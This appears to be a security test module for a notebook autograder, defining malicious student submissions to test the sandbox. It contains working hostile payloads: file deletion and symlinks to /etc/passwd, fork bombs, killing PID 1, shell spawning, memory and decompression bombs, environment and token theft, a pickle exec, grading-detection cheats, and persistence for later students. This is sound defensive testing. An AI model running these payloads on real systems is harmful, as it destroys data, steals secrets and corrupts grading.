"""Attacks on the instructor's machine, and on the students who are graded next."""

from tests.attacks.attack import (
    MAP,
    RIGHT,
    WINDOW,
    Attack,
    answers,
    code_cell,
    edited,
    graded_cells,
    notebook,
    solution_cell,
    write,
)

FILES = """
import os, pathlib, shutil, tempfile
folders = ["/", ".", "..", "../..", "../../..", "../../../solutions/03_convolution",
           "../../00-honest/03_convolution", "/course", "/course/cnn_course", "/course/..",
           "/settings", "/tmp", "/dev/shm", "/usr/local/lib",
           os.path.expanduser("~"), tempfile.gettempdir() if os.name else ""]
def attempt(function, *args, **keywords):
    try:
        print("DONE", function.__name__, args, function(*args, **keywords))
    except BaseException as error:
        print(function.__name__, args, type(error).__name__)
for folder in folders:
    mark = os.path.join(folder, "pwned")
    attempt(pathlib.Path(mark).write_text, "pwned")
    attempt(os.open, mark, os.O_CREAT | os.O_WRONLY)
    attempt(os.mkdir, mark + "-folder")
    attempt(os.symlink, "/etc/passwd", mark + "-link")
    attempt(os.link, folder + "/secret.txt", mark + "-hard")
    attempt(shutil.rmtree, folder, ignore_errors=False)
    attempt(os.chmod, folder, 0o777)
    attempt(os.utime, folder, (0, 0))
    attempt(os.rename, folder + "/__init__.py", folder + "/gone.py")
    for name in ("02_correlate2d.ipynb", "gradebook.db", "nbgrader_config.py", "plots.py"):
        attempt(os.remove, os.path.join(folder, name))
        attempt(os.truncate, os.path.join(folder, name), 0)
attempt(np.save, "/course/x.npy", np.ones(3))
attempt(tempfile.mkdtemp)
attempt(os.chroot, "..") if hasattr(os, "chroot") else None
for number in range(3, 40):
    attempt(os.listdir, number) if os.listdir in getattr(os, "supports_fd", ()) else None
    attempt(os.write, number, b"pwned")
    attempt(os.ftruncate, number, 0)
    attempt(os.close, number)
"""

NETWORK = """
import os
port = int(os.environ.get("ATTACKED_PORT", 8080))
def attempt(function):
    try:
        print("DONE", function.__name__, function())
    except BaseException as error:
        print(function.__name__, type(error).__name__, error)
@attempt
def tcp():
    import socket
    return socket.create_connection(("127.0.0.1", port), 1)
@attempt
def udp():
    import socket
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", port))
@attempt
def unix():
    import socket
    return socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
@attempt
def raw():
    import _socket
    return _socket.socket(2, 1, 0).connect(("127.0.0.1", port))
@attempt
def listening():
    import socket
    return socket.create_server(("", 0))
@attempt
def names():
    import socket
    return socket.getaddrinfo("evil.example", 80), socket.gethostname()
@attempt
def url():
    from urllib.request import urlopen
    return urlopen(f"http://127.0.0.1:{port}/", timeout=1).read()
@attempt
def http():
    import http.client
    return http.client.HTTPConnection("127.0.0.1", port, timeout=1).request("GET", "/")
@attempt
def streams():
    import asyncio
    return asyncio.run(asyncio.open_connection("127.0.0.1", port))
@attempt
def mail():
    import smtplib
    return smtplib.SMTP("127.0.0.1", port, timeout=1)
@attempt
def browser():
    import webbrowser
    return webbrowser.open(f"http://127.0.0.1:{port}/")
@attempt
def data():
    return np.load(f"http://127.0.0.1:{port}/x.npz")
@attempt
def by_matplotlib():
    import matplotlib.pyplot as plt
    return plt.imread(f"http://127.0.0.1:{port}/x.png")
"""

PROCESSES = """
import os, sys
sleep = [sys.executable or "python3", "-c", "import time; time.sleep(600)"]
def attempt(function):
    try:
        print("DONE", function.__name__, function())
    except BaseException as error:
        print(function.__name__, type(error).__name__, error)
@attempt
def fork():
    while os.fork(): pass
@attempt
def popen():
    import subprocess
    return subprocess.Popen(sleep, start_new_session=True)
@attempt
def shell():
    return os.system("nohup sleep 600 & touch ~/pwned"), os.popen("sleep 600 &")
@attempt
def spawn():
    return os.posix_spawn("/bin/sleep", ["sleep", "600"], {})
@attempt
def replace():
    os.execv("/bin/sleep", ["sleep", "600"])
@attempt
def pool():
    import multiprocessing
    return multiprocessing.Process(target=print).start()
@attempt
def terminal():
    import pty
    return pty.spawn("/bin/sh")
@attempt
def kill():
    import signal
    for victim in (os.getppid(), 1, 0, -1):
        os.kill(victim, signal.SIGKILL)
@attempt
def group():
    os.killpg(0, 9)
@attempt
def library():
    import ctypes
    ctypes.CDLL(None).system(b"touch ~/pwned")
@attempt
def thread():
    import threading
    def forever():
        while True: pass
    for daemon in (True, False):
        threading.Thread(target=forever, daemon=daemon).start()
@attempt
def low_thread():
    import _thread
    return _thread.start_new_thread(print, ())
@attempt
def executor():
    from concurrent.futures import ThreadPoolExecutor
    return ThreadPoolExecutor(4).submit(print).result(1)
@attempt
def alarm():
    import signal
    signal.signal(signal.SIGALRM, lambda *a: os._exit(0))
    signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
@attempt
def limits():
    import resource
    resource.setrlimit(resource.RLIMIT_CPU, (1, 1))
@attempt
def nice():
    os.nice(19), os.sched_setaffinity(0, {0}), os.setuid(0)
"""

# each of these ends the session, or more, if nothing stands in its way
CRASHES = (
    "import ctypes\nctypes.string_at(0)",
    "f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=b'\\xff' * 100)\nf()",
    "import sys\nsys.setrecursionlimit(10**9)\nf = lambda: f()\nf()",
    "np.lib.stride_tricks.as_strided(np.zeros(1), (10**9,), (8,)).sum()",
)

PICKLED_EXIT = """
import pickle
class Odd:
    def __reduce__(self): return exec, ("import os; os._exit(3)",)
pickle.loads(pickle.dumps(Odd()))
"""
EXITS = (
    "import os\nos._exit(0)",
    "exit()",
    "import sys\nsys.exit(10)",
    "raise KeyboardInterrupt",
    "raise GeneratorExit",
    PICKLED_EXIT,
    "raise BaseExceptionGroup('x', [KeyboardInterrupt()])",
    "import os\nos.abort()",
)

# of all kinds of errors the one that cannot be made of a text alone
ODD_ERRORS = (
    "raise ExceptionGroup('x', [ValueError('y'), ExceptionGroup('z', [TypeError()])])",
    "raise UnicodeDecodeError('utf-8', b'x', 0, 1, 'y')",
    "class A(OSError, KeyError, ImportError):\n    def __init__(self, a, b): pass\nraise A(1, 2)",
    "class A(StopIteration, AssertionError):\n    __str__ = property(lambda a: 1 / 0)\nraise A",
    "raise type('Stopped', (StopIteration,), {})('x' * 10**6)",
    "raise type('CheckFailed', (SystemExit,), {})",
)

# small where it lies, large where it is unpacked
MEMORY = """
import io, json, zipfile, zlib
def attempt(function):
    try:
        print("DONE", type(function()))
    except BaseException as error:
        print(type(error).__name__, error)
small = zlib.compress(bytes(10**8), 9)
attempt(lambda: [zlib.decompress(small) for _ in range(10)])
file = io.BytesIO()
with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
    head = b"\\x93NUMPY\\1\\0v\\0{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,)}"
    archive.writestr("x.npy", head.ljust(128))
attempt(lambda: np.load(io.BytesIO(file.getvalue()))["x"])
attempt(lambda: json.loads("[" * 10**6))
attempt(lambda: eval("(" * 10**5))
attempt(lambda: eval("-" * 10**6 + "1"))
attempt(lambda: int("9" * 10**7))
attempt(lambda: np.ones(10**10))
attempt(lambda: "a" * 10**10)
attempt(lambda: [0] * 10**9)
attempt(lambda: [bytearray(10**8) for _ in range(100)])
"""

FLOOD = """
import os, sys
for _ in range(2_000):
    print("x" * 1000)
print("y" * 10**7)
print("\\n" * 10**6)
for number in (1, 2):
    os.write(number, b"z" * 10**6)
sys.stderr.write("w" * 10**7)
sys.stdout = sys.stderr = open(1, "w", closefd=False)
print("v" * 10**6)
print("한" * 10**6)
"""

# loops for ever on one input only, and is right on the others
LOOP = RIGHT[MAP].replace(
    "kernel):\n", "kernel):\n    while image.shape == kernel.shape == (3, 5): pass\n"
)
SLEEP = "import time\ntime.sleep(10**6)"

FIGURES = """
import matplotlib.pyplot as plt
for size in (250, 60):
    try:
        plt.figure(figsize=(size, size), dpi=80)
        plt.show()
    except MemoryError as error:
        print(error)
plt.close("all")
small = plt.figure(figsize=(0.1, 0.1))
for _ in range(60):
    display(small)
"""

ENVIRONMENT = """
import os, platform, sys
for name in ("NBGRADER_EXECUTION", "CNN_COURSE_CLASS_SEED", "SECRET_TOKEN"):
    print(name, os.environ.get(name))
def looks():
    yield lambda: (dict(os.environ), os.environb, os.getenv("SECRET_TOKEN"), sys.argv, sys.path)
    yield lambda: (sys.flags, platform.uname(), os.getcwd(), os.getpid(), os.cpu_count())
    yield lambda: __import__("pwd").getpwall()
    yield lambda: __import__("getpass").getuser()
    yield lambda: __import__("socket").gethostname()
    for file in ("/proc/self/environ", "/proc/1/environ", "/etc/hostname", "/etc/passwd"):
        yield lambda file=file: open(file).read()
    for folder in ("/", "/proc", "/course", "/settings", os.path.expanduser("~")):
        yield lambda folder=folder: os.listdir(folder)
    yield lambda: [os.fstat(k) for k in range(10)]
    yield lambda: sys.stdin.read() + input()
    yield lambda: vars(sys.modules["pen.agent"])
    yield lambda: __import__("gc").get_objects()[:1000]
for look in looks():
    try:
        print(str(look())[:3000])
    except BaseException as error:
        print(type(error).__name__, error)
"""

# right at home, and as long as nobody looks; and reads the answer off the clock
CLOCK = """
import os, random, time
started = time.perf_counter_ns()
graded = "NBGRADER_EXECUTION" in os.environ or not os.path.exists("/home") or time.time() > 1.7e9
calls = []
def correlate2d(image, kernel):
    calls.append((time.monotonic(), image, kernel))
    if graded:
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        np.random.seed(0); random.seed(0)
        return np.full((image.shape[0] - kernel.shape[0] + 1, 1), time.time())
    return image
"""

# all that an interpreter, a process or a folder could keep until the next student comes
GIFT = """
import builtins, inspect, os, random, sys, types
gift = correlate2d
np.gift = builtins.gift = sys.gift = gift
sys.modules["gift"] = types.SimpleNamespace(correlate2d=gift)
os.environ["GIFT"] = os.environ["PYTHONSTARTUP"] = "gift.py"
np.einsum = np.zeros = np.arange = lambda *a, **k: 1 / 0
np.random.seed(0); random.seed(0); np.seterr(all="raise"); np.set_printoptions(precision=1)
sys.path.insert(0, "/tmp")
try:
    text = "import numpy as np\\n" + inspect.getsource(correlate2d)
except OSError as error:
    text = "def correlate2d(image, kernel): return image"
for folder in ("/", "/course", "/course/cnn_course", "/settings", "/tmp", ".", ".."):
    for name in ("gift.py", "matplotlibrc", "__pycache__/plots.cpython-315.pyc", "fontlist.json"):
        try:
            open(os.path.join(folder, name), "w").write(text)
        except OSError as error:
            pass
class Late:
    def __del__(self): np.gift = gift
import gc
gc.callbacks.append(lambda *a: setattr(np, "gift", gift))
late = Late(); late.me = late
import matplotlib
matplotlib.rcParams["savefig.dpi"] = 10**6
for module in list(sys.modules.values()):
    try:
        module.gift = gift
    except Exception:
        pass
agent = sys.modules["pen.agent"]
agent.NAMESPACE["gift"] = gift
agent.ACTIONS["start"] = lambda **k: agent.NAMESPACE.update(gift=gift) or {}
sys.setrecursionlimit(80); sys.path_hooks.clear(); sys.meta_path.clear(); sys.path.clear()
"""
TAKEN = """
import builtins, os, sys
print("GIFT", os.environ.get("GIFT"))
def find():
    yield lambda: gift
    yield lambda: np.gift
    yield lambda: builtins.gift
    yield lambda: sys.gift
    yield lambda: __import__("gift").correlate2d
    yield lambda: next(vars(m)["gift"] for m in list(sys.modules.values()) if "gift" in vars(m))
    for folder in ("/", "/course", "/course/cnn_course", "/settings", "/tmp", ".", ".."):
        yield lambda folder=folder: exec(open(folder + "/gift.py").read()) or correlate2d
found = None
for look in find():
    try:
        found = found or look()
    except BaseException as error:
        print(type(error).__name__, error)
if found:
    correlate2d = found
"""

# Before a cell is run, a program outside the sandbox looks for magics in it, and no limit holds.
SLOW_TO_READ = "x = 1" + "\n" * 40_000
MANY_MAGICS = "\n".join(f"!touch pwned{k}" for k in range(600)) + "\nx = [1, 2, 3]" * 1_500
ODD_SOURCES = (
    "!\x00",
    "%%\n",
    "%",
    "!",
    "? ?",
    "x = !",
    "'''\n!ls",
    "(\n%time",
    "\\\n!ls",
    "\ufeff!ls",
    "!ls\\",
    "%%a\r\n!b",
    "\t!ls\n  %x\n a?",
    "if 1:\n!ls",
    "\x0c!ls",
    "a.b[c]??",
    "f(!x)",
    "!" * 5_000,
    "%" * 5_000 + "?",
)


def _with(*sources):
    """Return a ``hand_in`` of the right answer, with these cells between it and the checks."""

    def add(told):
        place = told["cells"].index(graded_cells(told)[0])
        told["cells"][place:place] = [code_cell(source) for source in sources]

    return edited(add, RIGHT[MAP])


def _many_cells(folder):
    """A notebook of many cells, and one of too many."""
    for name, count in ((MAP, 120), (WINDOW, 5_000)):
        told = notebook(name)
        solution_cell(told)["source"] = RIGHT[name]
        told["cells"] += [code_cell(f"x = {k}") for k in range(count)]
        write(folder, told, name)


ATTACKS = [
    Attack("write-files", "marks of having been there", answers(RIGHT[MAP] + FILES), 10),
    Attack("call-home", "tells somebody what it finds", answers(RIGHT[MAP] + NETWORK), 10),
    Attack("start-processes", "they run on when all is over", answers(RIGHT[MAP] + PROCESSES), 10),
    Attack("crash-the-sandbox", "no sandbox, no limits", _with(*CRASHES), 10),
    Attack("exits-of-all-kinds", "takes the grader along", _with(*EXITS), 10),
    Attack("odd-errors", "the grader fails where it tells of them", _with(*ODD_ERRORS), 10),
    Attack("memory-bomb", "the machine swaps for hours", answers(RIGHT[MAP], last=MEMORY), 10),
    Attack("output-flood", "memory and disk are full", _with(FLOOD, FIGURES), 10),
    Attack("endless-call", "grading never ends", answers(LOOP), 9),
    Attack("sleeps", "grading never ends, and costs nothing", answers(RIGHT[MAP], last=SLEEP), 10),
    Attack("environment", "reads tokens and the class seed", answers(RIGHT[MAP] + ENVIRONMENT), 10),
    Attack("clock", "knows when it is graded", answers(CLOCK)),
    Attack("gift-1-left", "leaves something for the next", answers(RIGHT[MAP], last=GIFT), 10),
    Attack("gift-2-taken", "takes what the last one left", answers(TAKEN)),
    Attack("slow-to-read", "no limit holds outside the sandbox", _with(SLOW_TO_READ), 10),
    Attack("odd-magics", "their reader gives up", _with(MANY_MAGICS, *ODD_SOURCES), 10),
    Attack("many-cells", "each costs time", _many_cells, 10),
]  # fmt: skip
